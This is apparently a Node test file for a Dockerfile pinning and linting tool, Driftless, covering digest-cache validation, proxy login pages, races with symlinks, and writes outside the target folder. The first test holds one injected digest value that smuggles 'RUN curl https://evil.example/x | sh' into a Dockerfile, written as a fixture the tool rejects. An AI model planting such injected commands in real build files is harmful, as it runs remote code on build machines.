import assert from 'node:assert/strict';
import { appendFileSync, lstatSync, readFileSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { runBuiltCli } from '../support/cli-child';
import { deadHost, fakeRegistry, FAKE_MANIFEST, FAKE_MANIFEST_DIGEST, MANIFEST_HEADERS, serveManifest } from '../support/fake-registry';
import { tempTreesForSuite } from '../support/temp-tree';

const WRONG_DIGEST = `sha256:${'0'.repeat(64)}`;
const tree = tempTreesForSuite('driftless-pin-safety-');

describe('--digest-cache is data from disk (issue 14, item 1)', () => {
  test('entries with a digest that is not exactly sha256:+64 hex, or stored in the future, are dropped; a good one is used', async () => {
    const h = await deadHost();
    const now = Date.now();
    const tenYears = 10 * 365 * 24 * 3600 * 1000;
    const injected = `sha256:${'0'.repeat(64)}\nRUN curl https://evil.example/x | sh`;
    const good = `sha256:${'b'.repeat(64)}`;
    const cache = {
      [`${h}/evil:1|`]: { value: { digest: injected, index: false }, storedAt: now + tenYears },
      [`${h}/future:1|`]: { value: { digest: `sha256:${'a'.repeat(64)}`, index: false }, storedAt: now + tenYears },
      [`${h}/upper:1|`]: { value: { digest: `sha256:${'A'.repeat(64)}`, index: false }, storedAt: now - 1000 },
      [`${h}/platform:1|`]: { value: { digest: good, index: true, platformDigest: 'sha256:1234' }, storedAt: now - 1000 },
      [`${h}/good:1|`]: { value: { digest: good, index: false }, storedAt: now - 1000 },
    };
    const text = [`FROM ${h}/evil:1`, `FROM ${h}/future:1`, `FROM ${h}/upper:1`, `FROM ${h}/platform:1`, `FROM ${h}/good:1`, ''].join('\n');
    const dir = tree({ Dockerfile: text, 'digests.json': JSON.stringify(cache) });
    const run = await runBuiltCli(['--pin', '--digest-cache', 'digests.json', 'Dockerfile'], dir);
    assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), text.replace(`${h}/good:1`, `${h}/good:1@${good}`));
    const refused = `refused the connection (registry down?)`;
    assert.deepEqual(run.stdout.split('\n').slice(0, 6), [
      `Dockerfile:1: not pinned: ${h}/evil:1: ${h} ${refused}`,
      `Dockerfile:2: not pinned: ${h}/future:1: ${h} ${refused}`,
      `Dockerfile:3: not pinned: ${h}/upper:1: ${h} ${refused}`,
      `Dockerfile:4: not pinned: ${h}/platform:1: ${h} ${refused}`,
      `Dockerfile:5: pinned ${h}/good:1 to ${good}`,
      'pinned 1 of 5 images',
    ]);
    assert.equal(run.status, 1);
  });
});

describe('a HEAD answer counts only when it is a manifest (issue 14, item 2)', () => {
  test('a proxy login page with a digest header is not pinned; a manifest served under the wrong type is hashed', async () => {
    const registry = await fakeRegistry((req, res) => {
      if (req.url?.startsWith('/v2/login/')) {
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Docker-Content-Digest': WRONG_DIGEST });
        res.end(req.method === 'GET' ? '<html>sign in to the proxy</html>' : undefined);
        return;
      }
      res.writeHead(200, req.method === 'HEAD' ? { 'Content-Type': 'text/html', 'Docker-Content-Digest': WRONG_DIGEST } : MANIFEST_HEADERS);
      res.end(req.method === 'GET' ? FAKE_MANIFEST : undefined);
    });
    try {
      const h = registry.host;
      const text = `FROM ${h}/login/app:1\nFROM ${h}/app:1\n`;
      const dir = tree({ Dockerfile: text });
      const run = await runBuiltCli(['--pin', 'Dockerfile'], dir);
      assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), `FROM ${h}/login/app:1\nFROM ${h}/app:1@${FAKE_MANIFEST_DIGEST}\n`);
      assert.deepEqual(run.stdout.split('\n').slice(0, 3), [
        `Dockerfile:1: not pinned: ${h}/login/app:1: ${h} answered with text/html, not a manifest (a proxy's page?)`,
        `Dockerfile:2: pinned ${h}/app:1 to ${FAKE_MANIFEST_DIGEST}`,
        'pinned 1 of 2 images',
      ]);
      assert.equal(run.status, 1);
    } finally {
      await registry.stop();
    }
  });
});

describe('--pin writes only what it read, only inside the paths given (issue 14, item 3)', () => {
  test('a line added while the lookup runs is kept: the file is not written and the image says why', async () => {
    let dir = '';
    const registry = await fakeRegistry((req, res) => {
      if (req.method === 'HEAD') appendFileSync(join(dir, 'Dockerfile'), 'RUN echo added meanwhile\n');
      serveManifest(req, res);
    });
    try {
      const h = registry.host;
      dir = tree({ Dockerfile: `FROM ${h}/app:1\n` });
      const run = await runBuiltCli(['--pin', 'Dockerfile'], dir);
      assert.equal(readFileSync(join(dir, 'Dockerfile'), 'utf8'), `FROM ${h}/app:1\nRUN echo added meanwhile\n`);
      assert.deepEqual(run.stdout.split('\n').slice(0, 2), [
        `Dockerfile:1: not pinned: ${h}/app:1: file not written: it changed while Driftless worked on it (run again)`,
        'pinned 0 of 1 image',
      ]);
      assert.equal(run.status, 1);
    } finally {
      await registry.stop();
    }
  });

  test('a file replaced by a symlink during the lookup: the link target is not written', async () => {
    let dir = '';
    let outside = '';
    const registry = await fakeRegistry((req, res) => {
      if (req.method === 'HEAD') {
        rmSync(join(dir, 'Dockerfile'));
        symlinkSync(join(outside, 'Dockerfile'), join(dir, 'Dockerfile'));
      }
      serveManifest(req, res);
    });
    try {
      const text = `FROM ${registry.host}/app:1\n`;
      dir = tree({ Dockerfile: text });
      outside = tree({ Dockerfile: text });
      const run = await runBuiltCli(['--pin', 'Dockerfile'], dir);
      assert.equal(readFileSync(join(outside, 'Dockerfile'), 'utf8'), text);
      assert.ok(lstatSync(join(dir, 'Dockerfile')).isSymbolicLink());
      assert.deepEqual(run.stdout.split('\n').slice(0, 2), [
        `Dockerfile:1: not pinned: ${registry.host}/app:1: file not written: it leads to ${realpathSync(join(outside, 'Dockerfile'))}, outside ${dir}`,
        'pinned 0 of 1 image',
      ]);
      assert.equal(run.status, 1);
    } finally {
      await registry.stop();
    }
  });

  test('a Dockerfile in the folder given that links out of it is left alone; one inside is pinned', async () => {
    const registry = await fakeRegistry(serveManifest);
    try {
      const text = `FROM ${registry.host}/app:1\n`;
      const outside = tree({ Dockerfile: text });
      const dir = tree({ 'api/Dockerfile': text });
      symlinkSync(join(outside, 'Dockerfile'), join(dir, 'Dockerfile'));
      const run = await runBuiltCli(['--pin', '.'], dir);
      assert.equal(readFileSync(join(outside, 'Dockerfile'), 'utf8'), text);
      assert.equal(readFileSync(join(dir, 'api/Dockerfile'), 'utf8'), `FROM ${registry.host}/app:1@${FAKE_MANIFEST_DIGEST}\n`);
      assert.deepEqual(run.stdout.split('\n').slice(0, 3), [
        `Dockerfile:1: not pinned: ${registry.host}/app:1: file not written: it leads to ${realpathSync(join(outside, 'Dockerfile'))}, outside ${dir}`,
        `api/Dockerfile:1: pinned ${registry.host}/app:1 to ${FAKE_MANIFEST_DIGEST}`,
        'pinned 1 of 2 images',
      ]);
      assert.equal(run.status, 1);
    } finally {
      await registry.stop();
    }
  });
});

describe('--fix writes only inside the folder given (issue 14, item 10)', () => {
  test('a symlink out of the folder is linted but its target is not rewritten; the file inside is fixed', async () => {
    const text = 'FROM debian:12@sha256:' + 'c'.repeat(64) + '\nRUN apt-get update && apt-get upgrade -y\n';
    const outside = tree({ Dockerfile: text });
    const dir = tree({ 'api/Dockerfile': text });
    symlinkSync(join(outside, 'Dockerfile'), join(dir, 'Dockerfile'));
    const run = await runBuiltCli(['--fix', '--unsafe-fixes', '--format', 'json', '.'], dir);
    assert.equal(readFileSync(join(outside, 'Dockerfile'), 'utf8'), text);
    assert.equal(readFileSync(join(dir, 'api/Dockerfile'), 'utf8'), text.replace(' && apt-get upgrade -y', ''));
    assert.equal(run.stderr, `driftless: Dockerfile: fixes not written: it leads to ${realpathSync(join(outside, 'Dockerfile'))}, outside ${dir}\n`);
    assert.equal(run.status, 2);
  });
});
